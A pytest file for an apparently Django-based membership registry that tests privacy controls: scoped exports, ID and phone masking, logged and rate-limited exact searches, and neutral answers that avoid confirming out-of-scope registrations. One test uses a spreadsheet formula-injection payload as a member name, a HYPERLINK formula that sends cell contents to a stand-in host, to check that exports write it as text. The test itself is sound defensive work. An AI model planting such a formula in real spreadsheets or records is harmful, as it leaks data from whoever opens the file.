"""Members' personal data (issue 7): export scope and per-row reveal, the masking rule,
logged and rate-limited exact searches, no existence oracle, no live formulas in exports."""

import datetime
import io

import pytest
from django.core.cache import cache
from django.core.exceptions import ValidationError
from django.urls import reverse
from openpyxl import load_workbook

from xianfeng.accounts.roles import Role, Scope
from xianfeng.audit.models import AccessLog
from xianfeng.core.tests.factories import GrantFactory, user_with_grant
from xianfeng.members import services

from .factories import MemberFactory, make_id_number
from .test_imports import filled_template, upload

ID_A = make_id_number(datetime.date(1990, 3, 7), serial=123)
ID_B = make_id_number(datetime.date(1985, 11, 2), serial=456)
NEUTRAL = "该身份证号无法在此登记"


@pytest.fixture(autouse=True)
def _fresh_limits():
    cache.clear()
    yield
    cache.clear()


@pytest.fixture
def people(world):
    a = MemberFactory(name="组内人", branch=world.group_a, id_number=ID_A, phone="13812345678")
    b = MemberFactory(name="外支部人", branch=world.branch_b, id_number=ID_B, phone="13987654321")
    return a, b


def _rows(response) -> list[tuple]:
    return list(load_workbook(io.BytesIO(response.content)).active.values)


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_export_uses_export_scope_and_reveals_only_within_reveal_scope(world, people, login):
    # Export and reveal on one small group (党办干事 over group_a); view over the committee (领导).
    user = user_with_grant(Role.CLERK, Scope.ORG_SUBTREE, world.group_a, username="small")
    GrantFactory(user=user, role=Role.LEADER, scope=Scope.ORG_SUBTREE, org=world.committee)
    response = login(user).get(reverse("members:export"), {"reveal": "1", "reason": "上报"})
    assert response.status_code == 200
    content = str(_rows(response))
    assert ID_A in content
    assert "外支部人" not in content and ID_B not in content and "13987654321" not in content


def test_export_masks_rows_outside_the_reveal_scope(world, people, login):
    # Export (unmasked not allowed) over the committee, reveal only on group_a.
    user = user_with_grant(Role.SECRETARY, Scope.ORG_SUBTREE, world.committee, username="wide")
    GrantFactory(user=user, role=Role.CLERK, scope=Scope.ORG_SUBTREE, org=world.group_a)
    rows = _rows(login(user).get(reverse("members:export"), {"reveal": "1", "reason": "上报"}))
    by_name = {row[0]: row for row in rows[1:]}
    assert by_name["组内人"][4] == ID_A and by_name["组内人"][5] == "13812345678"
    assert by_name["外支部人"][4] == ID_B[:4] + "*" * 14 and by_name["外支部人"][5] == "139****4321"
    log = AccessLog.objects.get(kind=AccessLog.Kind.EXPORT)
    assert log.row_count == 2 and log.user == user


def test_masked_id_number_shows_no_digit_of_birth_date_sequence_or_check(world, people, login):
    a, _b = people
    assert a.id_number_masked == "2106**************"
    html = login(world.owner).get(reverse("members:detail", args=[a.pk])).content.decode()
    assert "2106**************" in html and ID_A[6:] not in html and ID_A[-4:] + "<" not in html


def test_exact_id_search_is_logged_without_the_value(world, people, login):
    client = login(world.owner)
    html = client.get(reverse("members:list"), {"q": ID_A}).content.decode()
    assert "组内人" in html
    log = AccessLog.objects.get(kind=AccessLog.Kind.SEARCH)
    assert log.user == world.owner and log.fields == "身份证号" and log.get_kind_display() == "精确查找"
    stored = " ".join(str(v) for v in AccessLog.objects.values_list("object_repr", "fields", "reason", "object_id"))
    assert ID_A not in stored and ID_A[6:14] not in stored
    client.get(reverse("members:list"), {"q": "138 1234 5678"})
    assert AccessLog.objects.filter(kind=AccessLog.Kind.SEARCH, fields="电话").count() == 1
    client.get(reverse("members:list"), {"q": "组内"})  # a name search is not an exact search
    assert AccessLog.objects.filter(kind=AccessLog.Kind.SEARCH).count() == 2


def test_exact_searches_are_rate_limited(world, people, login, settings):
    settings.EXACT_SEARCH_LIMIT = 2
    client = login(world.owner)
    for _i in range(2):
        assert "组内人" in client.get(reverse("members:list"), {"q": ID_A}).content.decode()
    html = client.get(reverse("members:list"), {"q": ID_A}).content.decode()
    assert "组内人" not in html and "次数已达上限" in html
    response = client.get("/api/members/", {"q": ID_A})
    assert response.status_code == 429
    body = response.json()
    assert set(body) == {"detail", "errors"} and "上限" in body["detail"]
    # Ordinary searches go on working.
    assert "组内人" in client.get(reverse("members:list"), {"q": "组内"}).content.decode()


def test_create_with_an_id_registered_out_of_scope_gives_a_neutral_answer(world, people, login):
    client = login(world.owner)  # 党办干事 over branch_a: cannot see branch_b
    response = client.post(
        reverse("members:create"), {"name": "冒名", "branch": world.branch_a.pk, "id_number": ID_B, "category": "staff"}
    )
    html = response.content.decode()
    assert response.status_code == 400
    assert NEUTRAL in html and "已登记" not in html
    log = AccessLog.objects.get(kind=AccessLog.Kind.EXISTENCE)
    assert log.user == world.owner and ID_B not in f"{log.object_repr}{log.fields}{log.reason}"
    # Within scope the usual answer stays.
    response = client.post(
        reverse("members:create"), {"name": "重复", "branch": world.branch_a.pk, "id_number": ID_A, "category": "staff"}
    )
    assert "该身份证号已登记为其他人员" in response.content.decode()


def test_existence_checks_count_against_the_limit(world, people, settings):
    settings.EXACT_SEARCH_LIMIT = 1
    for _i in range(2):
        with pytest.raises(ValidationError) as exc:
            services.member_create(acting_user=world.owner, name="冒名", branch=world.branch_a, id_number=ID_B)
    assert "上限" in str(exc.value)
    # Over the limit even an unregistered number gets the same refusal: no oracle left.
    fresh = make_id_number(datetime.date(1970, 1, 1), serial=777)
    with pytest.raises(ValidationError, match="上限"):
        services.member_create(acting_user=world.owner, name="新人", branch=world.branch_a, id_number=fresh)


def test_member_export_writes_formulas_as_text(world, login):
    MemberFactory(name='=HYPERLINK("http://x.example/?a="&A1,"点我")', branch=world.branch_a)
    sheet = _sheet(login(world.owner).get(reverse("members:export")))
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type != "f" and cell.value.startswith("'=")


def test_import_does_not_confirm_members_registered_out_of_scope(world, people, login):
    client = login(world.owner)
    rows = [
        {"姓名": "外部号", "身份证号": ID_B, "所属支部": world.branch_a.name, "人员类别": "职工"},
        {"姓名": "本部号", "身份证号": ID_A, "所属支部": world.group_a.name, "人员类别": "职工"},
    ]
    job = upload(client, filled_template(client, rows))
    problems = {i["row"]: i["message"] for i in job.issues}
    assert NEUTRAL in problems[2] and "已登记" not in problems[2]
    # Registered within the scope: a re-import that would update the name (test_import_update).
    assert 3 not in problems and job.plan["update"] == 1 and job.plan["changed"] == {"姓名": 1}
    assert AccessLog.objects.filter(kind=AccessLog.Kind.EXISTENCE, user=world.owner).count() == 1
